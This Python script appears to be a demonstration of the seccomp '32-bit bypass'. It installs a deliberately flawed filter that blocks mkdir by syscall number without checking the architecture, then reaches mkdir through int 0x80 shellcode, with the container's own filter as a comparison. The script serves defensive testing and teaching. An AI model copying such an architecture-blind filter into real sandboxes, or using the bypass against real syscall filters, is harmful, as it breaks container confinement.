"""Create a directory through the 64-bit and the 32-bit syscall entry points; print each outcome.

Runs inside a container (``python3 -c``, standard library only) on an x86_64 kernel.
``handwritten`` first installs a hand-written seccomp filter that refuses syscall number 83
(``mkdir`` on x86_64) and allows everything else, *without checking the architecture*:
the mistake behind the "32-bit bypass". Without an argument the container's own filter
(the one runc built with libseccomp from the profile) is the only one.

The 32-bit call goes through ``int 0x80``: the kernel then reads the syscall number from the
i386 table (``mkdir`` is 39 there) and reports the architecture as ``AUDIT_ARCH_I386``.
"""
import ctypes
import mmap
import os
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)


def handwritten_filter():
    """load nr; if nr == 83 return ERRNO(EPERM); return ALLOW  (no look at the architecture)."""
    program = [(0x20, 0, 0, 0),               # BPF_LD|BPF_W|BPF_ABS  seccomp_data.nr
               (0x15, 0, 1, 83),              # BPF_JMP|BPF_JEQ|BPF_K nr == 83 ?
               (0x06, 0, 0, 0x00050000 | 1),  # BPF_RET  SECCOMP_RET_ERRNO | EPERM
               (0x06, 0, 0, 0x7FFF0000)]      # BPF_RET  SECCOMP_RET_ALLOW
    code = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *i) for i in program))

    class Prog(ctypes.Structure):
        _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_void_p)]

    prog = Prog(len(program), ctypes.addressof(code))
    if libc.prctl(38, 1, 0, 0, 0) != 0:                      # PR_SET_NO_NEW_PRIVS
        sys.exit(f"prctl(PR_SET_NO_NEW_PRIVS) failed: {os.strerror(ctypes.get_errno())}")
    if libc.prctl(22, 2, ctypes.byref(prog), 0, 0) != 0:     # PR_SET_SECCOMP, SECCOMP_MODE_FILTER
        sys.exit(f"installing the filter failed: {os.strerror(ctypes.get_errno())}")


def mkdir_32bit(path: bytes, mode: int) -> int:
    """mkdir through int 0x80: eax = 39 (i386 mkdir), ebx = path, ecx = mode. Returns eax."""
    page = mmap.mmap(-1, mmap.PAGESIZE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40,  # MAP_32BIT
                     prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    base = ctypes.addressof(ctypes.c_char.from_buffer(page))
    page.seek(64)
    page.write(path + b"\0")
    page.seek(0)
    page.write(b"\xb8" + (39).to_bytes(4, "little") + b"\xbb" + (base + 64).to_bytes(4, "little")
               + b"\xb9" + mode.to_bytes(4, "little") + b"\xcd\x80\xc3")   # mov eax; mov ebx; mov ecx; int 0x80; ret
    return ctypes.CFUNCTYPE(ctypes.c_int)(base)()


if len(sys.argv) > 1 and sys.argv[1] == "handwritten":
    handwritten_filter()
try:
    os.mkdir("/tmp/by-64-bit")
    print("64-bit mkdir (x86_64 #83): created", flush=True)
except OSError as exc:
    print(f"64-bit mkdir (x86_64 #83): refused ({exc.strerror})", flush=True)
ret = mkdir_32bit(b"/tmp/by-32-bit", 0o755)
print("32-bit mkdir (i386 #39):   " + ("created" if ret == 0 else f"refused ({os.strerror(-ret)})"), flush=True)
